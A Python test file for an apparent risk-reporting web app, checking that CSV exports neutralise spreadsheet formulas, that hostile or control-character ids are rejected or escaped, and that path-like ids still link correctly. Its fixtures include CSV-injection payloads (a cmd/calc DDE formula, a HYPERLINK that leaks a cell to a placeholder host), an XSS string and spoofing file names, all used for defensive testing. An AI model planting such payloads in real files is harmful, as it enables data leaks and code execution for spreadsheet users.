"""Issue 21, what names can do: a corporation is data from outside.

- CSV injection (OWASP): every CSV the system writes for people (risklist.csv, served as GET /risklist.csv) neutralises a
  text cell that a spreadsheet would run as a formula (drs/data/csvsafe.py), and its reader gives the original back.
- Ids are bounded: too long (max_id_length), a NUL or another control character: the file is rejected whole, the
  reason naming the line, the same from the fast reader, the careful one and the database source.
- A client's own view opens, with the right client, for every id the list shows: through Flask's test client, through
  gunicorn over HTTP, and (slow) in headless Chromium, which resolves `.` and `..` in paths as every browser does.
"""

from __future__ import annotations

import csv
import http.client
import io
import json
import os
import re
import shutil
import subprocess
import tempfile
from html import unescape
from pathlib import Path
from urllib.parse import parse_qs, quote, urlsplit

import pandas as pd
import polars as pl
import pytest
import requests
from markupsafe import escape
from pypdf import PdfReader

from drs.core import ids
from drs.core.errors import ConfigError, DataError
from drs.core.settings import Config, load_config
from drs.data import csvsafe, dbsource, ingest
from drs.data.readers import checked_frame, fast_frame, frame_from_text
from drs.data.schema import Schema
from drs.reports import reporting
from drs.web import users
from drs.web.app import create_app
from tests.conftest import HEADER, make_project, run_script, stage_pass, tree_state, write_config
from tools.procs import gunicorn_server

FORMULAS = [
    '=HYPERLINK("http://x.example/?leak="&B2,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+2",
]
QUOTED = ["'quoted already", "''twice quoted"]  # a leading ' gets one more, so the reader's one strip gives them back
PATHLIKE = ["a/b", "a/../b", "..", ".", "a//b", "/leading slash", "trailing slash/", "?q=1#frag", "100% sure", "%2F", "a\\b"]
PLAIN_BUT_ODD = ["space in name", "été ünïcode 東京", "<script>alert(1)</script>", 'say "hi", then', "O'Brien & Sons; Ltd."]
HOSTILE = FORMULAS + QUOTED + PATHLIKE + PLAIN_BUT_ODD
PADDED = "space in name"  # written with spaces and a tab around it
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN = "an id must be plain text on one line (no NUL, tab, line break or other control character)"


def hostile_csv() -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(HEADER.strip().split(","))
    for i, name in enumerate(HOSTILE):
        written = f"  {name} \t" if name == PADDED else name  # the readers take it without the spaces around it
        writer.writerow([written, 1 + i % 3, 100 + i, 10 + i % 5, 0])  # active, and at high risk: on the list and in the PDF
    return buffer.getvalue()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Config:
    """The practice project with one more source file of hostile names, ingested, deployed and ranked."""
    root = make_project(tmp_path_factory.mktemp("hostile") / "project")
    (root / "practicedata" / "hostile.csv").write_text(hostile_csv(), encoding="utf-8")
    config = load_config(root / "practiceconfig.json")
    stage_pass(config)
    reporting.run(config)
    return config


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


# ---- the neutralising writer and its reader ------------------------------------------------------------------


def test_a_text_cell_a_spreadsheet_would_run_gets_a_quote_and_the_reader_takes_exactly_one_off() -> None:
    for text in [*FORMULAS, "\tTAB first", "\rCR first", "-", "@", "=", "+"]:
        assert csvsafe.neutralised(text) == "'" + text
        assert csvsafe.restored(csvsafe.neutralised(text)) == text
    for text in ["'quoted", "''", "'"]:  # a leading quote gets one more: the round trip stays exact
        assert csvsafe.neutralised(text) == "'" + text
        assert csvsafe.restored(csvsafe.neutralised(text)) == text
    for text in ["", "acme", "a=b", "a+b", " =not first", "1-2", "été"]:
        assert csvsafe.neutralised(text) == text == csvsafe.restored(text)


def test_the_writer_neutralises_text_columns_only_and_the_reader_restores_them(tmp_path: Path) -> None:
    frame = pl.DataFrame(
        {
            "corporation": pl.Series([*FORMULAS, "'q", "plain"], dtype=pl.String),
            "move": pl.Series([-0.05, 0.5, -1.0, 0.0, 2.0, -3.25, None], dtype=pl.Float64),
            "rank_change": pl.Series([-2, 3, -1, 0, 1, -7, None], dtype=pl.Int64),
            "top_reason": ["=reason", "", "-x", "fine", "@y", "+z", "'w"],
        }
    )
    path = tmp_path / "out.csv"
    csvsafe.write_polars(frame, path)  # the writer risklist.csv is written with
    header, *rows = cells(path.read_text(encoding="utf-8"))
    assert header == ["corporation", "move", "rank_change", "top_reason"]  # the configured names, as they are
    assert [r[0] for r in rows] == [*("'" + f for f in FORMULAS), "''q", "plain"]
    assert [r[1] for r in rows] == ["-0.05", "0.5", "-1.0", "0.0", "2.0", "-3.25", ""]  # numbers stay numbers
    assert [r[2] for r in rows] == ["-2", "3", "-1", "0", "1", "-7", ""]
    assert [r[3] for r in rows] == ["'=reason", "", "'-x", "fine", "'@y", "'+z", "''w"]
    back = csvsafe.read_frame(path, {"corporation": "str", "top_reason": "str", "rank_change": "Int64", "move": "Float64"})
    assert back["corporation"].tolist() == frame["corporation"].to_list()
    assert back["top_reason"].fillna("").tolist() == frame["top_reason"].to_list()
    assert back["move"].tolist()[:6] == [-0.05, 0.5, -1.0, 0.0, 2.0, -3.25]
    assert back["rank_change"].tolist()[:6] == [-2, 3, -1, 0, 1, -7]


# ---- risklist.csv, GET /risklist.csv, GET /risk -------------------------------------------------------------------


def test_risklist_csv_holds_no_cell_a_spreadsheet_would_run(hostile: Config) -> None:
    data = (hostile.output_model_folder / "risklist.csv").read_text(encoding="utf-8")
    header, *rows = cells(data)
    at = header.index("corporation")
    written = {row[at] for row in rows}
    for name in FORMULAS + QUOTED:
        assert "'" + name in written and name not in written
    for name in PATHLIKE + PLAIN_BUT_ODD:
        assert name in written
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or is_number(cell), (cell, row)


def test_get_risklist_csv_serves_the_neutralised_file(hostile: Config) -> None:
    answer = create_app(hostile).test_client().get("/risklist.csv")
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    assert answer.data == (hostile.output_model_folder / "risklist.csv").read_bytes()
    header, *rows = cells(answer.get_data(as_text=True))
    assert "'" + FORMULAS[0] in {row[header.index("corporation")] for row in rows}


def test_the_reader_of_risklist_csv_gives_every_original_name_back(hostile: Config) -> None:
    path = hostile.output_model_folder / "risklist.csv"
    frame = csvsafe.read_frame(path, {"corporation": "str", "top_reason": "str"})
    assert set(HOSTILE) <= set(frame["corporation"])
    assert not any(name.startswith("'") for name in frame["corporation"] if name not in QUOTED)


def test_get_risk_and_the_page_show_the_original_names(hostile: Config) -> None:
    client = create_app(hostile).test_client()
    body = client.get("/risk?top=1000").get_json()
    names = [c["corporation"] for c in body["clients"]]
    assert len(names) == body["active_clients"] and set(HOSTILE) <= set(names)
    for name in HOSTILE:
        html = client.get("/", query_string={"q": name}).get_data(as_text=True)
        assert f">{escape(name)}</a>" in html, name


def test_the_pdf_shows_the_hostile_names_among_its_top_clients_as_text(hostile: Config) -> None:
    """reportlab's paragraphs read markup: a name with <, & or quotes is escaped (drs/reports/pdf.py), never markup."""
    top = csvsafe.read_frame(hostile.output_model_folder / "risklist.csv", {"corporation": "str", "top_reason": "str"}).head(20)
    shown = [name for name in top["corporation"] if name in HOSTILE and name.isascii()]  # the PDF's fonts are Latin-only
    assert len(shown) >= 15 and "<script>alert(1)</script>" in shown and FORMULAS[0] in shown
    text = re.sub(r"\s+", "", " ".join(page.extract_text() for page in PdfReader(hostile.output_model_folder / "report.pdf").pages))
    assert [name for name in shown if re.sub(r"\s+", "", name) not in text] == []


# ---- every id the list shows opens its client's view ----------------------------------------------------------------


def client_link(html: str, name: str) -> str:
    """The href of the list's link whose text is exactly `name`."""
    found = re.findall(r'<td class="corp"><a href="([^"]*)">' + re.escape(str(escape(name))) + "</a>", html)
    assert len(found) == 1, (name, found)
    return unescape(found[0])


def view_shows(html: str, name: str) -> bool:
    return f'<h1 id="client-title">Client <span class="corp">{escape(name)}</span></h1>' in html


def test_each_listed_id_links_to_its_own_view_through_flasks_test_client(hostile: Config) -> None:
    client = create_app(hostile).test_client()
    ranks = {c["corporation"]: c["rank"] for c in client.get("/risk?top=1000").get_json()["clients"]}
    for name in HOSTILE:
        href = client_link(client.get("/", query_string={"q": name}).get_data(as_text=True), name)
        path = urlsplit(href).path
        assert not any(part in (".", "..") for part in path.split("/")), href  # a browser would resolve these away
        answer = client.get(href)
        assert answer.status_code == 200, (name, href, answer.status_code)
        html = answer.get_data(as_text=True)
        assert view_shows(html, name), (name, href)
        assert f'rank <strong class="num">{ranks[name]}</strong>' in html
        assert '<td class="nowrap">hostile.csv</td>' in html  # its row over time, found by its id in the source file


def test_each_listed_id_opens_its_view_through_gunicorn(hostile: Config) -> None:
    """requests, like a browser, resolves `.` and `..` segments before sending; gunicorn decodes %2F to / in PATH_INFO."""
    with gunicorn_server(hostile.config_file, workers=1) as url:
        session = requests.Session()
        for name in HOSTILE:
            page = session.get(f"{url}/", params={"q": name}, timeout=30)
            href = client_link(page.text, name)
            answer = session.get(url + href, timeout=30)
            assert answer.status_code == 200 and view_shows(answer.text, name), (name, href, answer.status_code)
        host = urlsplit(url)
        for raw in ("/clients/a%2Fb", "/clients/a/b"):  # typed by hand: an encoded or a plain slash is the same id
            conn = http.client.HTTPConnection(host.hostname or "", host.port, timeout=30)
            conn.request("GET", raw)
            answer_raw = conn.getresponse()
            assert answer_raw.status == 200 and view_shows(answer_raw.read().decode(), "a/b"), raw
            conn.close()


def test_after_signing_in_each_link_comes_back_to_its_own_client(hostile: Config, tmp_path: Path) -> None:
    """The page sends a stranger to /signin?next=<where it was>; after the sign-in that is the same client's view."""
    open_client = create_app(hostile).test_client()
    hrefs = {name: client_link(open_client.get("/", query_string={"q": name}).get_data(as_text=True), name) for name in HOSTILE}
    root = tmp_path / "project"
    shutil.copytree(hostile.config_file.parent, root, symlinks=True)
    config = load_config(root / hostile.config_file.name)
    users.add_user(config.users_file, "vera", "viewer", "a long enough password")
    for name, href in hrefs.items():
        client = create_app(config).test_client()
        first = client.get(href)
        assert first.status_code == 302 and urlsplit(first.headers["Location"]).path == "/signin", (name, href)
        (back,) = parse_qs(urlsplit(first.headers["Location"]).query)["next"]
        form = client.get(first.headers["Location"]).get_data(as_text=True)
        token = re.search(r'name="csrf_token" value="([^"]+)"', form)
        assert token is not None
        signed = client.post(
            "/signin", data={"csrf_token": token.group(1), "name": "vera", "password": "a long enough password", "next": back}
        )
        assert signed.status_code == 302, name
        view = client.get(signed.headers["Location"])
        assert view.status_code == 200 and view_shows(view.get_data(as_text=True), name), (name, href, signed.headers["Location"])


@pytest.mark.slow
def test_a_real_browser_opens_the_view_of_ids_it_would_otherwise_resolve_away(hostile: Config) -> None:
    browser = shutil.which("chromium") or shutil.which("chromium-browser")
    if not browser:
        pytest.skip("Debian's chromium is not installed: the browser test cannot run here")
    client = create_app(hostile).test_client()
    tricky = ["..", ".", "a/../b", "/leading slash", "?q=1#frag", "100% sure"]
    hrefs = {name: client_link(client.get("/", query_string={"q": name}).get_data(as_text=True), name) for name in tricky}
    flags = ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"]
    with gunicorn_server(hostile.config_file, workers=1) as url, tempfile.TemporaryDirectory() as profile:
        for name, href in hrefs.items():
            dom = subprocess.run(
                [browser, *flags, f"--user-data-dir={profile}", "--dump-dom", url + href], capture_output=True, text=True, timeout=120
            )
            assert dom.returncode == 0 and view_shows(dom.stdout, name), (name, href, dom.stdout[:300])


# ---- ids are bounded ------------------------------------------------------------------------------------------------

LONG = "x" * 201
ID_REJECTED = {
    "id_too_long.csv": (
        HEADER + "abcd,1,2,3,0\n" + LONG + ",1,2,3,0\n",
        f"column 'corporation' is longer than 200 characters (max_id_length) in line 3 (201 characters: '{'x' * 40}'…)",
    ),
    "id_nul.csv": (
        HEADER + "ab\x00cd,1,2,3,0\n",
        "column 'corporation' holds a control character in line 2 ('ab\\x00cd'): " + PLAIN,
    ),
    "id_nul_at_the_end.csv": (
        HEADER + "abcd,1,2,3,0\nabcd\x00,1,2,3,0\n",
        "column 'corporation' holds a control character in line 3 ('abcd\\x00'): " + PLAIN,
    ),
    "id_bell_and_escape.csv": (
        HEADER + "a\x07b,1,2,3,0\nefgh,1,2,3,0\nc\x1b[31md,1,2,3,0\n",
        "column 'corporation' holds a control character in line 2 ('a\\x07b'), line 4 ('c\\x1b[31md'): " + PLAIN,
    ),
    "id_delete.csv": (
        HEADER + "ab\x7fcd,1,2,3,0\n",
        "column 'corporation' holds a control character in line 2 ('ab\\x7fcd'): " + PLAIN,
    ),
    "id_c1.csv": (
        HEADER + "ab\x9bcd,1,2,3,0\n",
        "column 'corporation' holds a control character in line 2 ('ab\\x9bcd'): " + PLAIN,
    ),
    "id_tab_inside.csv": (
        HEADER + '"ab\tcd",1,2,3,0\n',
        "column 'corporation' holds a control character in line 2 ('ab\\tcd'): " + PLAIN,
    ),
    "id_line_break_inside.csv": (
        HEADER + '"Acme\nHoldings",12,340,56,1\n',
        "column 'corporation' holds a control character in line 2 ('Acme\\nHoldings'): " + PLAIN,
    ),
    "id_right_to_left_override.csv": (
        HEADER + "abc\u202edcba,1,2,3,0\n",
        "column 'corporation' holds a control character in line 2 ('abc\\u202edcba'): " + PLAIN,
    ),
    "id_line_separator.csv": (
        HEADER + "abc\u2028def,1,2,3,0\n",
        "column 'corporation' holds a control character in line 2 ('abc\\u2028def'): " + PLAIN,
    ),
    "id_empty_after_strip.csv": (HEADER + "abcd,1,2,3,0\n  ,1,2,3,0\n", "column 'corporation' is empty in line 3"),
    # invisible format characters: an id that looks empty, or looks like another
    "id_zero_width_space_alone.csv": (
        HEADER + "abcd,1,2,3,0\n\u200b,1,2,3,0\n",
        "column 'corporation' holds a control character in line 3 ('\\u200b'): " + PLAIN,
    ),
    "id_zero_width_space_inside.csv": (
        HEADER + "a\u200bb,1,2,3,0\n",
        "column 'corporation' holds a control character in line 2 ('a\\u200bb'): " + PLAIN,
    ),
    "id_byte_order_mark_first.csv": (
        HEADER + "\ufeffab,1,2,3,0\n",
        "column 'corporation' holds a control character in line 2 ('\\ufeffab'): " + PLAIN,
    ),
    "id_soft_hyphen.csv": (HEADER + "a\xadb,1,2,3,0\n", "column 'corporation' holds a control character in line 2 ('a\\xadb'): " + PLAIN),
    "id_word_joiner.csv": (
        HEADER + "a\u2060b,1,2,3,0\n",
        "column 'corporation' holds a control character in line 2 ('a\\u2060b'): " + PLAIN,
    ),
    "id_tag_character.csv": (
        HEADER + "ab\U000e0041,1,2,3,0\n",
        "column 'corporation' holds a control character in line 2 ('ab\\U000e0041'): " + PLAIN,
    ),
}


@pytest.mark.parametrize("name", sorted(ID_REJECTED))
def test_a_bad_id_rejects_its_file_naming_the_line_and_the_rest_goes_in(practice_config: Config, name: str) -> None:
    content, reason = ID_REJECTED[name]
    (practice_config.input_folder / name).write_bytes(content.encode("utf-8"))
    sources = tree_state(practice_config.input_folder)
    result = ingest.ingest(practice_config)
    assert {r.name: r.reason for r in result.rejected} == {name: reason}
    (rejected,) = result.rejected
    assert rejected.rows_rejected >= 1
    assert practice_config.ingested_files_txt.read_text().split() == ["dataset1.csv", "dataset2.csv"]
    assert tree_state(practice_config.input_folder) == sources


@pytest.mark.parametrize("name", sorted(ID_REJECTED))
def test_the_fast_and_the_careful_reader_agree_on_bad_ids(name: str) -> None:
    content, reason = ID_REJECTED[name]
    data = content.encode("utf-8")
    assert fast_frame(data, Schema()) is None  # unsure: the careful reader decides, and names the problem
    for read in (lambda: checked_frame(data, Schema(), name), lambda: frame_from_text(content, Schema(), name)):
        with pytest.raises(DataError) as caught:
            read()
        assert caught.value.problem == reason


def test_spaces_around_an_id_are_still_removed_and_long_ids_up_to_the_limit_go_in(practice_config: Config) -> None:
    good = "y" * 200
    (practice_config.input_folder / "edges.csv").write_text(HEADER + f"  padded id \t,1,2,3,0\n{good},4,5,6,0\n", encoding="utf-8")
    result = ingest.ingest(practice_config)
    assert result.rejected == []
    final = pd.read_csv(practice_config.final_data_csv, keep_default_na=False)
    assert {"padded id", good} <= set(final["corporation"])


def test_max_id_length_is_a_setting_checked_with_the_others(project: Path) -> None:
    write_config(project, "practiceconfig.json", input_folder_path="practicedata", output_model_path="practicemodels", max_id_length=8)
    config = load_config(project / "practiceconfig.json")
    assert config.max_id_length == 8 and Schema.from_config(config).max_id_length == 8
    (config.input_folder / "long.csv").write_text(HEADER + "abcdefgh,1,2,3,0\nabcdefghi,1,2,3,0\n", encoding="utf-8")
    result = ingest.ingest(config)
    assert {r.name: r.reason for r in result.rejected} == {
        "long.csv": "column 'corporation' is longer than 8 characters (max_id_length) in line 3 ('abcdefghi')"
    }
    for bad in (0, -1, "200", 2.5, ids.LONGEST + 1, 10_000):
        write_config(project, "bad.json", max_id_length=bad)
        with pytest.raises(ConfigError, match="max_id_length"):
            load_config(project / "bad.json")
    (project / "typo.json").write_text(json.dumps({**json.loads((project / "config.json").read_text()), "max_id_lenght": 50}))
    with pytest.raises(ConfigError, match="did you mean 'max_id_length'"):
        load_config(project / "typo.json")


def test_the_database_source_applies_the_same_rule_naming_the_row() -> None:
    columns = ["corporation", "lastmonth_activity", "lastyear_activity", "number_of_employees", "exited", "updated_at"]
    schema = Schema("corporation", ("lastmonth_activity", "lastyear_activity", "number_of_employees"), "exited", 200)
    good = ["abcd", 1, 2, 3, 0, 1]
    for bad_id, words in (
        ("ab\x00cd", "holds a control character: " + PLAIN),
        ("x" * 201, "is longer than 200 characters (max_id_length)"),
        ("a\nb", "holds a control character: " + PLAIN),
    ):
        with pytest.raises(DataError) as caught:
            dbsource.checked_rows(columns, [good, [bad_id, 1, 2, 3, 0, 2]], schema, "updated_at", "source database x")
        assert caught.value.problem == f"row 2 (corporation {ids.clipped(bad_id)}): column 'corporation' {words}"
    kept = dbsource.checked_rows(columns, [good, ["  spaced  ", 1, 2, 3, 0, 2]], schema, "updated_at", "source database x")
    assert [row[0] for row in kept.rows] == ["abcd", "spaced"]


def test_the_api_refuses_a_bad_id_in_a_csv_body_or_json_records(hostile: Config) -> None:
    client = create_app(hostile).test_client()
    head = "corporation,lastmonth_activity,lastyear_activity,number_of_employees\n"
    answer = client.post("/prediction", data=head + "ok,1,2,3\nb\x00d,1,2,3\n", content_type="text/csv")
    assert answer.status_code == 400
    assert answer.get_json()["message"] == ("request body: column 'corporation' holds a control character in line 3 ('b\\x00d'): " + PLAIN)
    record = {"lastmonth_activity": 1, "lastyear_activity": 2, "number_of_employees": 3}
    answer = client.post("/prediction", json={"records": [{**record, "corporation": "ok"}, {**record, "corporation": "x" * 201}]})
    assert answer.status_code == 400
    assert answer.get_json()["message"] == "record 2: 'corporation' is longer than 200 characters (max_id_length)"
    for invisible in ("\u200b", "a\u200db", "\ufeffab", "\ud800", "x\udfff", "t\U000e007f"):  # lone surrogates: JSON can carry one
        answer = client.post(
            "/prediction", data=json.dumps({"records": [{**record, "corporation": invisible}]}), content_type="application/json"
        )
        assert answer.status_code == 400, invisible
        assert answer.get_json()["message"] == "record 1: 'corporation' holds a control character: " + PLAIN
    answer = client.post("/prediction", json={"records": [{**record, "corporation": "=1+2 fine"}]})
    assert answer.status_code == 200 and answer.get_json()["predictions"][0]["corporation"] == "=1+2 fine"


def test_json_records_take_an_id_by_the_readers_rule_stripped_and_never_empty(hostile: Config) -> None:
    client = create_app(hostile).test_client()
    record = {"lastmonth_activity": 1, "lastyear_activity": 2, "number_of_employees": 3}
    for empty in ("", "   ", "\t\u3000"):
        answer = client.post("/prediction", json={"records": [{**record, "corporation": "ok"}, {**record, "corporation": empty}]})
        assert answer.status_code == 400, repr(empty)
        assert answer.get_json()["message"] == "record 2: 'corporation' is empty"
    answer = client.post("/prediction", json={"records": [{**record, "corporation": "  x \t"}, record, {**record, "corporation": None}]})
    assert answer.status_code == 200, answer.get_json()
    assert [p["corporation"] for p in answer.get_json()["predictions"]] == ["x", None, None]  # as the CSV path: "x"
    csv_answer = client.post(
        "/prediction", data="corporation,lastmonth_activity,lastyear_activity,number_of_employees\n  x \t,1,2,3\n", content_type="text/csv"
    )
    assert csv_answer.get_json()["predictions"][0]["corporation"] == "x"


# ---- source file names from outside --------------------------------------------------------------------------------

UNSAFE_NAMES = {  # the name as the file system holds it: how the log shows it
    os.fsdecode(b"bad\xff.csv"): "'bad\\udcff.csv'",  # not valid UTF-8
    "new\nline.csv": "'new\\nline.csv'",  # would write two lines into ingestedfiles.txt and forge log lines
    "evil\u202evsc.csv": "'evil\\u202evsc.csv'",  # shows as 'evilcsv.csv'
    "zero\u200bwidth.csv": "'zero\\u200bwidth.csv'",
}
SKIPPED = "skipping a file whose name cannot be shown safely: {} (rename it)"


def test_a_source_file_name_that_cannot_be_shown_safely_is_skipped_once_named_and_the_rest_goes_in(deployed_practice: Config) -> None:
    config = deployed_practice
    for name in UNSAFE_NAMES:
        (config.input_folder / name).write_text(HEADER + "unsafe,1,2,3,0\n", encoding="utf-8")
    (config.input_folder / "fine.csv").write_text(HEADER + "fine,1,2,3,0\n", encoding="utf-8")
    config.kept_sources_folder.mkdir(parents=True, exist_ok=True)
    (config.kept_sources_folder / os.fsdecode(b"kept\xfe.csv")).write_text(HEADER + "kept,1,2,3,0\n", encoding="utf-8")
    sources = tree_state(config.input_folder)
    for script in ("ingestion.py", "fullprocess.py"):
        done = run_script(script, "--config", str(config.config_file))
        assert "Traceback" not in done.stderr and done.returncode == 0, (script, done.stderr[-2000:])
        for shown in [*UNSAFE_NAMES.values(), "'kept\\udcfe.csv'"]:
            assert done.stderr.count(SKIPPED.format(shown)) == 1, (script, shown, done.stderr[-2000:])
    assert config.ingested_files_txt.read_text(encoding="utf-8").splitlines() == ["dataset1.csv", "dataset2.csv", "fine.csv"]
    final = pd.read_csv(config.final_data_csv, keep_default_na=False)
    assert "fine" in set(final["corporation"]) and not {"unsafe", "kept"} & set(final["corporation"])
    assert tree_state(config.input_folder) == sources  # nothing renamed or removed


def test_max_id_length_is_bounded_so_the_longest_link_an_id_makes_fits_gunicorns_request_line(hostile: Config, tmp_path: Path) -> None:
    """gunicorn answers a request line over limit_request_line (4094 bytes) with 414: a client's link, and the sign-in
    link a stranger is sent to from it (the path quoted again in next=), must fit for the longest id allowed."""
    write_config(tmp_path, "long.json", max_id_length=ids.LONGEST + 1)
    with pytest.raises(ConfigError, match=r"key 'max_id_length' must be a whole number from 1 to 200 \(.*4094"):
        load_config(tmp_path / "long.json")
    write_config(tmp_path, "longest.json", max_id_length=ids.LONGEST)
    assert load_config(tmp_path / "longest.json").max_id_length == ids.LONGEST
    root = tmp_path / "project"
    shutil.copytree(hostile.config_file.parent, root, symlinks=True)
    config = load_config(root / hostile.config_file.name)
    users.add_user(config.users_file, "vera", "viewer", "a long enough password")
    widest = "\U0001f600" * ids.LONGEST  # 4 bytes a character in UTF-8, 12 percent-encoded, 20 quoted again
    link = f"/clients/{widest}"
    first = create_app(config).test_client().get(link)
    assert first.status_code == 302 and urlsplit(first.headers["Location"]).path == "/signin"
    for target in (quote(link), first.headers["Location"]):  # the link as the page writes it (URL-quoted), then the redirect
        line = f"GET {target} HTTP/1.1"
        assert line.isascii() and len(line) <= 4094, (len(line), line[:80])
